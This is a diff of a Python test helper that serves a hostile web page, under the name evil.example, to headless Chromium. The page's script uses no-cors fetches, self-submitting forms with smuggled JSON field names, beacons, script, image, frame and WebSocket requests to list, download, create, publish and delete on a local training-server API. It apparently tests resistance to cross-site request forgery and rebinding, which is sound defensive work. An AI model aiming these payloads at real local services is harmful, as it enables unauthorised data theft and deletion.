@@ -10,62 +10,54 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
+from urllib.parse import quote
 
 BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("chrome")
 REASON = "no chromium: apt-get install chromium"
 NAME = "evil.example"  # whose address the browser is told to be this machine's
 
 PAGE = """<!doctype html><title>harmless</title><script>
-const {servers, paths} = JSON.parse('%s');
+const steps = JSON.parse(decodeURIComponent('%s'));
 const told = {};
-async function attempt(name, action) {
-  try { told[name] = String(await action()).slice(0, 400); }
-  catch (error) { told[name] = 'failed: ' + error; }
-}
-const session = JSON.stringify({tags: ['page'], user_metadata: {}, sdk_version: '0'});
-async function read(url, how) {
-  const reply = await fetch(url, how);
-  return reply.status + await reply.text();
-}
-function form(url, kind) {  // posts without asking, and opens the answer in a frame
-  const [frame, made, field] = ['iframe', 'form', 'input'].map(x => document.createElement(x));
-  frame.name = 'frame' + Math.random();
-  Object.assign(made, {method: 'POST', action: url, target: frame.name, enctype: kind});
-  Object.assign(field, {name: '{"tags": ["page"], "x": "', value: '"}'});
-  made.append(field); document.body.append(frame, made);
-  return new Promise(done => { frame.onload = () => done('sent'); made.submit(); });
-}
 function element(kind, url) {
   const made = document.createElement(kind);
   made.src = url; document.body.append(made);
   return new Promise(done => {
-    made.onload = () => done('loaded'); made.onerror = () => done('failed: error');
+    made.onload = () => done('sent'); made.onerror = () => done('failed: error');
   });
 }
-async function attack(name, api) {
-  const post = (kind, mode) =>
-    ({method: 'POST', body: session, mode, headers: {'Content-Type': kind}});
-  await attempt(name + ' list', () => read(api + '/training_runs'));
-  await attempt(name + ' list blindly', () => read(api + '/training_runs', {mode: 'no-cors'}));
-  await attempt(name + ' download', () => read(api + paths.archive));
-  await attempt(name + ' script', () => element('script', api + '/training_runs'));
-  await attempt(name + ' image', () => element('img', api + paths.archive));
-  await attempt(name + ' text', () => read(api + '/create_session', post('text/plain', 'no-cors')));
-  await attempt(name + ' json', () => read(api + '/create_session', post('application/json')));
-  await attempt(name + ' blob', () => read(api + '/create_session',
-    {method: 'POST', body: new Blob([session]), mode: 'no-cors'}));
-  await attempt(name + ' beacon', () => navigator.sendBeacon(api + '/create_session', session));
-  await attempt(name + ' form', () => form(api + '/create_session', 'text/plain'));
-  await attempt(name + ' other form', () => form(api + '/create_session', 'multipart/form-data'));
-  await attempt(name + ' publish', () =>
-    read(api + paths.publish, {method: 'POST', mode: 'no-cors'}));
-  await attempt(name + ' delete', () => read(api + paths.checkpoint, {method: 'DELETE'}));
-}
+const kinds = {
+  async fetch({url, how, blob}) {
+    if (blob) how.body = new Blob([how.body]);
+    const reply = await fetch(url, how);
+    return reply.status + await reply.text();
+  },
+  form({url, how}) {  // posts without asking, and opens the answer in a frame
+    const [frame, made, field] = ['iframe', 'form', 'input'].map(x => document.createElement(x));
+    frame.name = 'frame' + Math.random();
+    Object.assign(made, {method: 'POST', action: url, target: frame.name, enctype: how.type});
+    Object.assign(field, {name: how.body.slice(0, -1) + ', "x": "', value: '"}'});
+    made.append(field); document.body.append(frame, made);
+    return new Promise(done => { frame.onload = () => done('sent'); made.submit(); });
+  },
+  beacon: ({url, how}) => navigator.sendBeacon(url, how.body) && 'sent',
+  script: ({url}) => element('script', url),
+  img: ({url}) => element('img', url),
+  iframe: ({url}) => element('iframe', url),
+  socket: ({url}) => new Promise(done => {
+    const made = new WebSocket(url.replace('http', 'ws'));
+    made.onopen = () => done('opened'); made.onerror = () => done('failed: error');
+  }),
+};
 onload = async () => {
-  for (const [name, api] of Object.entries(servers)) await attack(name, api);
+  for (const step of steps) {
+    try { told[step.name] = String(await kinds[step.kind](step)).slice(0, 400); }
+    catch (error) { told[step.name] = 'failed: ' + error; }
+  }
   await fetch('/report', {method: 'POST', body: JSON.stringify(told)});
 };
 </script><body></body>"""
+EMPTY = ("0", "sent")  # what a page sees of an answer that it can't read, beside a failure
 
 
 class Page:
@@ -133,9 +125,40 @@ def visit(url: str, *, seconds: float, until: threading.Event | None = None) -> 
             process.wait()
 
 
-def attack(served: Page, servers: dict[str, str], paths: dict[str, str], seconds: float) -> None:
-    """Lets the page try everything on servers, by their names and URLs."""
-    apis = {name: f"{url}/api/v1" for name, url in servers.items()}
-    served.text = PAGE % json.dumps({"servers": apis, "paths": paths})
+def try_all(served: Page, steps: list[dict[str, Any]], seconds: float) -> dict[str, str]:
+    """Lets the page try steps; what it saw of each, by the steps' names."""
+    served.text = PAGE % quote(json.dumps(steps))
     served.come.clear()
     visit(served.url, seconds=seconds, until=served.come)
+    assert served.come.is_set(), "the page did not run"
+    return served.told
+
+
+def everything(name: str, url: str, path: str) -> list[dict[str, Any]]:
+    """Steps that list, download, create, publish and delete, on a server and a checkpoint of it."""
+    api, session = f"{url}/api/v1", '{"tags": ["page"], "user_metadata": {}}'
+
+    def step(what: str, kind: str, path: str, **how: Any) -> dict[str, Any]:
+        made = {"name": f"{name} {what}", "kind": kind, "url": f"{api}{path}"}
+        return made | {"blob": how.pop("blob", False), "how": how}
+
+    def post(what: str, kind: str = "fetch", **how: Any) -> dict[str, Any]:
+        return step(what, kind, "/create_session", method="POST", body=session, **how)
+
+    return [
+        step("list", "fetch", "/training_runs"),
+        step("list blindly", "fetch", "/training_runs", mode="no-cors"),
+        step("download", "fetch", f"{path}/archive.tar"),
+        step("script", "script", "/training_runs"),
+        step("image", "img", f"{path}/archive.tar"),
+        step("frame", "iframe", "/training_runs"),
+        step("socket", "socket", "/healthz"),
+        post("text", headers={"Content-Type": "text/plain"}, mode="no-cors"),
+        post("json", headers={"Content-Type": "application/json"}),
+        post("blob", mode="no-cors", blob=True),
+        post("beacon", "beacon"),
+        post("form", "form", type="text/plain"),
+        post("other form", "form", type="multipart/form-data"),
+        step("publish", "fetch", f"{path}/publish", method="POST", mode="no-cors"),
+        step("delete", "fetch", path, method="DELETE"),
+    ]
